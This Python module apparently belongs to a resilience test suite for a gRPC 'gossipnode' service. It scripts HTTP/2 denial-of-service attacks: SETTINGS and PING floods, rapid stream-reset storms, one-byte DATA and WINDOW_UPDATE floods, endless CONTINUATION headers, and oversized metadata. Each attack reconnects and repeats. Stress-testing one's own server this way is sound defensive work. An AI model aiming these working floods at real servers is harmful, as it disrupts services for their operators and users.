"""Frames that ask for more than they bring: settings, pings, resets, windows, headers without end."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from itertools import count

import trio

from attacks import frames
from attacks.attack import Attacks, Scene
from gossipnode.wire import services

ATTACKS = Attacks()

WATCH = "/grpc.health.v1.Health/Watch"
REPAIR = services.REPAIR.path
SETTINGS_A_FRAME = 10_922
"""As many as 64 KiB hold."""
FRAMES_AT_ONCE = 1000


async def again_and_again(
    scene: Scene,
    parts: Callable[[], Iterator[bytes]],
    *,
    connections: int = 1,
    reads: bool = True,
    within_windows: bool = False,
) -> None:
    """Send the parts, and on a new connection again whenever the node has ended the one before."""

    async def one() -> None:
        while True:
            attacker = await scene.target.open(reads=reads)
            await (attacker.send_within_windows if within_windows else attacker.send_each)(parts())
            if not attacker.over:
                await attacker.wait_closed()

    async with trio.open_nursery() as nursery:
        for _ in range(connections):
            nursery.start_soon(one)


@ATTACKS.add("10,922 table sizes a frame, 30 frames, then a call")
async def settings_freeze(scene: Scene) -> None:
    sizes = [(frames.HEADER_TABLE_SIZE, at % 2 * 4096) for at in range(SETTINGS_A_FRAME)]
    storm = frames.settings(*sizes)

    def freeze() -> Iterator[bytes]:
        for stream in count(1, 2):
            yield from [storm] * 30
            yield frames.request(stream, services.NODE_STATUS.path, b"")

    await again_and_again(scene, freeze)


@ATTACKS.add("10,922 window sizes a frame, with 256 open streams")
async def settings_windows(scene: Scene) -> None:
    sizes = [(frames.INITIAL_WINDOW_SIZE, 65_535 - at % 2) for at in range(SETTINGS_A_FRAME)]
    storm = frames.settings(*sizes)
    opened = b"".join(frames.call(stream, REPAIR) for stream in range(1, 512, 2))
    await again_and_again(scene, lambda: iter([opened, *[storm] * 2000]))


@ATTACKS.add("empty SETTINGS, as many as go out")
async def settings_storm(scene: Scene) -> None:
    await again_and_again(scene, lambda: iter([frames.frame(frames.SETTINGS) * FRAMES_AT_ONCE] * 1000))


@ATTACKS.add("PING, as many as go out")
async def ping_storm(scene: Scene) -> None:
    ping = frames.frame(frames.PING, payload=bytes(8))
    await again_and_again(scene, lambda: iter([ping * FRAMES_AT_ONCE] * 1000))


@ATTACKS.add("PING whose answers nobody reads, on 16 connections")
async def unread_pings(scene: Scene) -> None:
    ping = frames.frame(frames.PING, payload=bytes(8))
    await again_and_again(scene, lambda: iter([ping * FRAMES_AT_ONCE] * 1000), connections=16, reads=False)


@ATTACKS.add("streams opened only to be reset")
async def reset_storm(scene: Scene) -> None:
    def storm() -> Iterator[bytes]:
        for stream in range(1, 2**31, 200):
            ids = range(stream, stream + 200, 2)
            yield b"".join(frames.call(each, REPAIR) + frames.reset(each) for each in ids)

    await again_and_again(scene, storm)


@ATTACKS.add("WINDOW_UPDATE of one byte, as many as go out")
async def window_drip(scene: Scene) -> None:
    await again_and_again(scene, lambda: iter([frames.window_update(0, 1) * FRAMES_AT_ONCE] * 1000))


@ATTACKS.add("a message of 4 MiB in DATA of one byte")
async def one_byte_data(scene: Scene) -> None:
    byte = frames.frame(frames.DATA, 0, 1, b"x") * FRAMES_AT_ONCE

    def storm() -> Iterator[bytes]:
        yield frames.call(1, services.NODE_APPLY.path) + frames.frame(frames.DATA, 0, 1, b"\0\0\x3f\xff\xff")
        for _ in range(4000):
            yield byte

    await again_and_again(scene, storm)


@ATTACKS.add("empty DATA, as many as go out")
async def empty_data(scene: Scene) -> None:
    empty = frames.frame(frames.DATA, 0, 1) * FRAMES_AT_ONCE
    await again_and_again(scene, lambda: iter([frames.call(1, REPAIR), *[empty] * 1000]))


@ATTACKS.add("HEADERS on a closed stream, a million")
async def late_headers(scene: Scene) -> None:
    first = frames.request(1, services.NODE_STATUS.path, b"")
    late = frames.trailers(1) * FRAMES_AT_ONCE
    await again_and_again(scene, lambda: iter([first, *[late] * 1000]))


@ATTACKS.add("GOAWAY, a million")
async def goaway_storm(scene: Scene) -> None:
    goaway = frames.frame(frames.GOAWAY, payload=bytes(8) + b"x" * 100) * FRAMES_AT_ONCE
    await again_and_again(scene, lambda: iter([goaway] * 1000))


@ATTACKS.add("a header block that never ends")
async def endless_headers(scene: Scene) -> None:
    def storm() -> Iterator[bytes]:
        yield frames.frame(frames.HEADERS, 0, 1, frames.head("/x"))
        for number in count():
            yield frames.frame(frames.CONTINUATION, 0, 1, frames.head("/x", (f"x{number}", "y" * 200)))

    await again_and_again(scene, storm)


@ATTACKS.add("calls with 17 KiB and 200 KiB of metadata")
async def large_metadata(scene: Scene) -> None:
    def storm() -> Iterator[bytes]:
        for stream in count(1, 2):
            block = frames.head(services.NODE_STATUS.path, ("x", "y" * (17_000 if stream % 64 else 60_000)))
            first, rest = block[:16_000], block[16_000:]
            parts = [rest[at : at + 16_000] for at in range(0, len(rest), 16_000)]
            yield frames.frame(frames.HEADERS, frames.END_STREAM, stream, first)
            for part in parts:
                flags = frames.END_HEADERS if part is parts[-1] else 0
                yield frames.frame(frames.CONTINUATION, flags, stream, part)

    await again_and_again(scene, storm)
